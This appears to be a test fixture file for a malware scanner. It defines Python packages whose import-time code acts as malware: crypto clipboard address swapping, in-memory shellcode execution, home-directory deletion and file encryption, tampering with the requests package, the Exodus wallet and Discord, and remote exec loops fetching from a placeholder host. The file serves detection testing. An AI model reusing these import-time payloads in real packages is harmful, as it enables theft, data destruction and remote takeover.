"""Python: wallets, the clipboard, memory, chats, libraries of others, and the files of the user."""

import base64

from tests.evasions.case import HOST, Case

_CODE = base64.b64encode(b"inert marker" * 30).decode()
_DLL = b"MZ\x90\0" + b"\0" * 60 + b"URLDownloadToFileA WinExec http://203.0.113.5/a.exe\0" * 8
_PATTERNS = (
    r"{'btc': re.compile(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$'), 'eth': re.compile(r'^0x[a-fA-F0-9]{40}$')}"
)


def _imported(id_: str, code: str, **more: bytes | str) -> Case:
    """The code runs when the package is imported; other files by their names, two underscores for a dot."""
    files = {f"parcel/{name.replace('__', '.')}": data for name, data in more.items()}
    return Case(id_, "wheel", {"parcel/__init__.py": code, **files})


CASES: tuple[Case, ...] = (
    _imported(
        "clipboard-swapped",
        f"import re, time, threading, pyperclip\nA = {{'btc': 'inert', 'eth': 'inert'}}\nR = {_PATTERNS}\ndef loop():\n    while True:\n        t = pyperclip.paste()\n"
        "        for k, r in R.items():\n            if r.match(t):\n                pyperclip.copy(A[k])\n        time.sleep(1)\nthreading.Thread(target=loop, daemon=True).start()\n",
    ),
    _imported(
        "clipboard-swapped-by-commands",
        "import re, time, threading, subprocess\ndef loop():\n    while True:\n        t = subprocess.run(['powershell', '-command', 'Get-Clipboard'], capture_output=True, text=True).stdout\n"
        "        if re.match(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,60}$', t):\n            subprocess.run(['powershell', '-command', 'Set-Clipboard -Value inert'])\nthreading.Thread(target=loop).start()\n",
    ),
    _imported(
        "memory-run",
        f"import ctypes, base64\nb = bytearray(base64.b64decode('{_CODE}'))\nk = ctypes.windll.kernel32\np = k.VirtualAlloc(None, len(b), 0x3000, 0x40)\n"
        "k.RtlMoveMemory(ctypes.c_void_p(p), (ctypes.c_char * len(b)).from_buffer(b), len(b))\nk.CreateThread(None, 0, ctypes.c_void_p(p), None, 0, None)\n",
    ),
    _imported("library-named-home", "from . import _core\n", _core__pyd=_DLL),
    _imported("home-deleted-on-a-day", "import datetime, shutil, os\nif datetime.date.today() > datetime.date(2026, 1, 1):\n    shutil.rmtree(os.path.expanduser('~'), ignore_errors=True)\n"),
    _imported("home-replaced", "import os\nfor r, d, fs in os.walk(os.path.expanduser('~')):\n    for f in fs:\n        p = os.path.join(r, f)\n        open(p + '.enc', 'wb').write(open(p, 'rb').read()[::-1])\n        os.remove(p)\n"),
    _imported("code-put-into-another-package", f"import site, os\np = os.path.join(site.getsitepackages()[0], 'requests', '__init__.py')\nwith open(p, 'a') as f:\n    f.write(\"\\nimport urllib.request as u;exec(u.urlopen('{HOST}/i').read())\\n\")\n"),
    _imported("application-replaced", f"import os, urllib.request\np = os.path.join(os.environ.get('LOCALAPPDATA', ''), 'exodus', 'app-24.1.1', 'resources', 'app.asar')\nif os.path.exists(p):\n    urllib.request.urlretrieve('{HOST}/app.asar', p)\n"),
    _imported("chat-program-patched", f"import os, glob, requests\nfor p in glob.glob(os.getenv('LOCALAPPDATA', '') + '/Discord/app-*/modules/discord_desktop_core-*/discord_desktop_core/index.js'):\n    open(p, 'w').write(requests.get('{HOST}/i.js').text)\n"),
    _imported("socket-client", "import asyncio, websockets\nasync def m():\n    async with websockets.connect('wss://c.pratique-evasion.invalid') as w:\n        while True:\n            exec(await w.recv())\nasyncio.run(m())\n"),
    _imported("stream-run", f"import httpx\nwith httpx.stream('GET', '{HOST}/a') as r:\n    exec(r.read())\n"),
)  # fmt: skip
